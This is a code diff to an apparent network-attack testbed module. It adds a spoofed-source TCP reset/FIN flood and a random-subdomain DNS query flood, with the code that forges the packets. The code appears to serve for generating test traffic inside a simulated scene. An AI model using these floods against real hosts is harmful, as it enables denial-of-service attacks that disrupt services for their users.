@@ -6,7 +6,9 @@ and over.
 
 from __future__ import annotations
 
+import random
 import re
+import struct
 from dataclasses import dataclass
 
 from wirelens_testbed.attacks import frames
@@ -27,9 +29,17 @@ HPING_OPTIONS = {
     "hping_udp_flood": ("--udp",),
     "hping_icmp_flood": ("--icmp",),
 }
-FORGED_FLOODS = ("forged_syn_flood", "forged_udp_flood", "forged_icmp_flood")
+FORGED_FLOODS = (
+    "forged_syn_flood", "forged_udp_flood", "forged_icmp_flood",
+    "forged_reset_flood", "forged_query_flood",
+)  # fmt: skip
 SOURCES = ("own", "spoofed")
 WEB_PORT = 80
+DNS_PORT, DNS_TYPE_A, DNS_CLASS_IN = 53, 1, 1
+# Of a flood that pretends to end connections: of each packet one of these.
+ENDING_FLAGS = (
+    frames.TCP_RST, frames.TCP_RST | frames.TCP_ACK, frames.TCP_FIN | frames.TCP_ACK,
+)  # fmt: skip
 
 # hping3 waits a second for the last answer, and starts anew for each source.
 HPING_WAIT_S = 2.0
@@ -109,15 +119,16 @@ class ForgedFlood(Attack):
     packet_count: int
     rate_per_s: float
     payload_size_bytes: int
-    needs: frozenset[str] = frozenset({"web"})
     spoofs: bool = True
 
     def __post_init__(self) -> None:
+        self.target = "names" if self.name == "forged_query_flood" else "web"
+        self.needs = frozenset({self.target})
         time_max_s = self.packet_count / self.rate_per_s * SLOWNESS_FACTOR + 5
         self.bounds = Bounds(self.packet_count + OVERHEAD_PACKETS, time_max_s)
 
     def launch(self, scene: Scene) -> dict[str, object]:
-        target = scene.servers["web"]
+        target = scene.servers[self.target]
         source_mac = frames.mac_bytes(scene.attacker.mac)
         target_mac = frames.mac_bytes(target.mac)
         sent = []
@@ -139,6 +150,15 @@ class ForgedFlood(Attack):
                 source, target, (source_port, WEB_PORT),
                 flags=frames.TCP_SYN, sequence=rng.getrandbits(32), window=rng.randint(512, 65535),
             )  # fmt: skip
+        elif self.name == "forged_reset_flood":
+            protocol = frames.PROTOCOL_TCP
+            data = frames.tcp(
+                source, target, (source_port, WEB_PORT),
+                flags=rng.choice(ENDING_FLAGS), sequence=rng.getrandbits(32), window=0,
+            )  # fmt: skip
+        elif self.name == "forged_query_flood":
+            protocol = frames.PROTOCOL_UDP
+            data = frames.udp(source, target, (source_port, DNS_PORT), question(rng))
         elif self.name == "forged_udp_flood":
             protocol = frames.PROTOCOL_UDP
             data = frames.udp(source, target, (source_port, rng.randint(1, 65535)), payload)
@@ -147,6 +167,14 @@ class ForgedFlood(Attack):
             data = frames.icmp_echo_request(rng.getrandbits(16), rng.getrandbits(16), payload)
         ttl = rng.randint(32, 128)
         return frames.ipv4(source, target, protocol, data, ident=rng.getrandbits(16), ttl=ttl)
+
+
+def question(rng: random.Random) -> bytes:
+    """A DNS question for the address of a name that nobody asked for before."""
+    label = rng.randbytes(rng.randint(4, 12)).hex().encode()
+    name = bytes([len(label)]) + label + b"\x07example\0"
+    header = struct.pack("!6H", rng.getrandbits(16), 0x0100, 1, 0, 0, 0)
+    return header + name + struct.pack("!HH", DNS_TYPE_A, DNS_CLASS_IN)
 
 
 @dataclass
